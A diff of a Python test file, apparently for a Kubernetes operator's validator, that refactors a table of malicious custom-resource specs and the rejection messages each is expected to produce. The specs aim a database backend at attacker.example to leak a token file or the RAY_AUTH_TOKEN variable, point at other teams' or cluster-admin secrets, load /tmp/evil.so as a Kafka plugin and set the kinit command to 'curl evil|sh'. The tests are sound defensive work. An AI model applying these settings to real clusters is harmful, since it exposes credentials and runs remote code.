@@ -18,11 +18,11 @@ def stream_with(example, **change):
     return example("AirPodsDataStream", **change)
 
 
-def evil_password_file(example):
+def core_backend(example, **backend):
+    """The example stream whose core backend is ``backend``: a host of the attacker's, a credential source."""
     cr = example("AirPodsDataStream")
-    cr["spec"]["storage"]["backends"]["core"].update(url="oracle://podpulse@attacker.example:1521/x",
-                                                     password_file=TOKEN)
-    del cr["spec"]["storage"]["backends"]["core"]["password_env"]
+    cr["spec"]["storage"]["backends"]["core"] = {"type": "oracle", "url": "oracle://x@attacker.example:1521/x",
+                                                 **backend}
     return cr
 
 
@@ -32,12 +32,10 @@ ATTACKS = {
                        "spec.credentialsSecret 'cluster-admin-token'"),
     "volume Secret": (lambda ex: stream_with(ex, kafkaConfigSecret={"name": "other-team-kafka"}),
                       "spec.kafkaConfigSecret.name 'other-team-kafka'"),
-    "password_file": (evil_password_file, f"spec.storage.backends.core.password_file '{TOKEN}'"),
-    "password_env of the pod": (
-        lambda ex: stream_with(ex, storage={**ex("AirPodsDataStream")["spec"]["storage"], "backends": {
-            **ex("AirPodsDataStream")["spec"]["storage"]["backends"],
-            "core": {"type": "oracle", "url": "oracle://x@attacker.example:1521/x", "password_env": "RAY_AUTH_TOKEN"}}}),
-        "spec.storage.backends.core.password_env 'RAY_AUTH_TOKEN'"),
+    "password_file": (lambda ex: core_backend(ex, password_file=TOKEN),
+                      f"spec.storage.backends.core.password_file '{TOKEN}'"),
+    "password_env of the pod": (lambda ex: core_backend(ex, password_env="RAY_AUTH_TOKEN"),
+                                "spec.storage.backends.core.password_env 'RAY_AUTH_TOKEN'"),
     "plugin.library.paths": (lambda ex: stream_with(ex, kafka={"plugin.library.paths": "/tmp/evil.so"}),
                              "spec.kafka 'plugin.library.paths'"),
     "sasl.kerberos.kinit.cmd": (lambda ex: stream_with(ex, kafka={"sasl.kerberos.kinit.cmd": "curl evil|sh"}),
